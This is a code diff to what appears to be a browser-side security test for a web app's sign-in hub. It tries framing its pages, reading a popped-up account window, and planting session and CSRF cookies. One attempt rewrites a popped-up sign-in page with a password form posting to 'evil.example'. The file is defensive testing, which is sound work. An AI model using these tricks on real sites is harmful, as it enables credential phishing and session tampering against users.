@@ -103,7 +103,7 @@ const attempts = {
   "page: frame the sign-in": () => frame("/login"),
   "page: frame the account": () => frame("/account"),
   "page: read a popped-up account": () =>
-    popup("/account", (opened) => opened.document.body.innerText.includes("Signed")),
+    popup("/account", (opened) => opened.document.body.textContent.includes("Signed")),
   "page: rewrite a popped-up sign-in": () =>
     popup("/login", (opened) => {
       opened.document.body.innerHTML = '<form action="https://evil.example">Password</form>'
@@ -127,6 +127,7 @@ async function run() {
   // A planted cookie is tried last: it may at most make the hub see nobody.
   try {
     for (const name of ["parachute_hub_session", "parachute_hub_csrf"]) {
+      // biome-ignore lint/suspicious/noDocumentCookie: this is the attack
       document.cookie = `${name}=planted-by-a-page-000000000000000000000000; path=/account`
     }
   } catch {
